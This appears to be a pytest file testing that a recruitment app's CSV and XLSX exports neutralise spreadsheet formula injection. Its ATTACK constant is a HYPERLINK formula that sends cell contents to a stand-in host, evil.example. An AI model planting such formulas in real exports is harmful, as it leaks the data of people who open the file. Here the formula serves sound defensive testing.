import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from carerecruit.lib.spreadsheet import neutralise, safe_sheet_title, write_csv, write_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("   =cmd", "'   =cmd"),
        ("\n=cmd", "'\n=cmd"),
        (ATTACK, "'" + ATTACK),
        ("Facebook", "Facebook"),
        ("a=b", "a=b"),
        ("Siobhán O’Neill-Smith", "Siobhán O’Neill-Smith"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_neutralise_leaves_non_strings_alone():
    assert neutralise(-5) == -5
    assert neutralise(None) is None


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_neutralises_strings_and_keeps_numbers():
    data = write_csv(
        [
            [ATTACK, 3, Decimal("66.7"), None, datetime.date(2020, 4, 21)],
            ["-1", -1, 0.5, "Café", "@x"],
        ],
        header=["Label", "Count", "Rate (%)", "Empty", "Day"],
    )
    assert read_csv(data) == [
        ["Label", "Count", "Rate (%)", "Empty", "Day"],
        ["'" + ATTACK, "3", "66.7", "", "2020-04-21"],
        ["'-1", "-1", "0.5", "Café", "'@x"],
    ]
    assert b"\r\n" in data


def test_csv_neutralises_header_too():
    assert read_csv(write_csv([], header=["=cmd"])) == [["'=cmd"]]


def test_xlsx_never_holds_a_formula():
    data = write_xlsx(
        [[ATTACK, 3, Decimal("33.3"), None, datetime.date(2020, 4, 21)], ["+1", 7, 1.5, "ok", "\t=x"]],
        header=["Label", "Count", "Rate (%)", "Empty", "Day"],
        sheet_title="By channel",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data))["By channel"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["Label", "Count", "Rate (%)", "Empty", "Day"]
    assert rows[0][0].font.b is True

    attack = rows[1][0]
    assert attack.data_type == "s"
    assert attack.value == "'" + ATTACK
    assert attack.value.startswith("'")
    assert rows[1][1].data_type == "n" and rows[1][1].value == 3
    assert rows[1][2].value == 33.3
    assert rows[1][3].value is None
    assert rows[1][4].value == datetime.datetime(2020, 4, 21, 0, 0)
    assert rows[1][4].number_format == "yyyy-mm-dd"
    assert [c.value for c in rows[2]] == ["'+1", 7, 1.5, "ok", "'\t=x"]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"


def test_xlsx_drops_control_characters_instead_of_failing():
    data = write_xlsx([["bad\x00\x07text"]], header=["Label"], sheet_title="Links")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "badtext"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("By channel", "By channel"),
        ("Funnel: clicks/visits", "Funnel  clicks visits"),
        ("x" * 40, "x" * 31),
        ("", "Sheet1"),
    ],
)
def test_safe_sheet_title(title, expected):
    assert safe_sheet_title(title) == expected
